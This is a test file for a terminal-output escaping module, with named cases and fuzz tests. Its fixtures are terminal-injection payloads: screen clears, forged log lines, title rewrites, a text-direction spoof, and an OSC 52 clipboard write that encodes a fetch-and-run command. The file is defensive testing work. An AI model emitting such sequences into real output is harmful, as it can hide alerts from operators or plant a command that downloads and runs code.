import t from 'tap';
import fc from 'fast-check';
import { escapeForTerminal, isTerminalSafe, jsonForTerminal } from '../../protocol/terminal.js';

// Every byte a terminal acts on: C0, DEL, C1.
const CONTROL = /[\u0000-\u001f\u007f-\u009f]/;

t.test('named attacks are shown, not obeyed', async (t) => {
  const cases: Record<string, string> = {
    'screen clear': 'disk full\x1b[2J\x1b[H',
    'fake line': 'ok\n12:00:00  node-1  RESOLVED  disk.usage  /  all good',
    'carriage return over the line': 'evil\rall good',
    'window title': '\x1b]0;root@prod: all good\x07',
    'OSC 52 clipboard write': '\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07',
    'C1 CSI (U+009B) clear': '\u009b2J',
    'C1 OSC (U+009D) title': '\u009d0;title\u009c',
    'direction override': 'image\u202Egnp.exe',
  };
  for (const [name, input] of Object.entries(cases)) {
    const out = escapeForTerminal(input);
    t.notMatch(out, CONTROL, `${name}: no control character left`);
    t.notOk(out.includes('\u202e'), `${name}: no direction override left`);
    t.ok(out.length >= input.length, `${name}: nothing dropped silently`);
  }
  t.equal(escapeForTerminal('\x1b[2J'), '\\x1b[2J', 'ESC shown as \\x1b');
  t.equal(escapeForTerminal('a\nb'), 'a\\nb', 'a newline cannot start a fake line');
  t.equal(escapeForTerminal('\u009b'), '\\x9b');
  t.equal(escapeForTerminal('/var/lib/docker/overlay2/ab12 (ro) — ünïcödé 日本'), '/var/lib/docker/overlay2/ab12 (ro) — ünïcödé 日本', 'printable text is untouched');
});

t.test('--json: C1 is escaped too, and the value is the same', async (t) => {
  const value = { message: 'x\u009b2J\x1b]52;c;AA==\x07y', n: 1 };
  const out = jsonForTerminal(value);
  t.notMatch(out, CONTROL);
  t.same(JSON.parse(out), value, 'parses back to the same value');
  t.equal(JSON.stringify(value).includes('\u009b'), true, 'plain JSON.stringify would have let U+009B through');
});

t.test('fuzz: no string survives with a control character; printable strings are unchanged', async (t) => {
  const anyText = fc.oneof(fc.string({ unit: 'binary', maxLength: 200 }), fc.string({ unit: 'grapheme', maxLength: 50 }), fc.stringMatching(/^[\x00-\x20\x7f-\xa0\u202a-\u202e]{0,40}$/));
  fc.assert(
    fc.property(anyText, (s) => {
      const out = escapeForTerminal(s);
      return !CONTROL.test(out) && isTerminalSafe(out) && (isTerminalSafe(s) ? out === s : out !== s);
    }),
    { numRuns: 3000 },
  );
  fc.assert(
    fc.property(fc.jsonValue({ maxDepth: 3 }), anyText, (v, s) => {
      const value = { v, s };
      const out = jsonForTerminal(value);
      return !CONTROL.test(out) && JSON.stringify(JSON.parse(out)) === JSON.stringify(value);
    }),
    { numRuns: 2000 },
  );
  t.pass('3,000 strings and 2,000 JSON values');
});
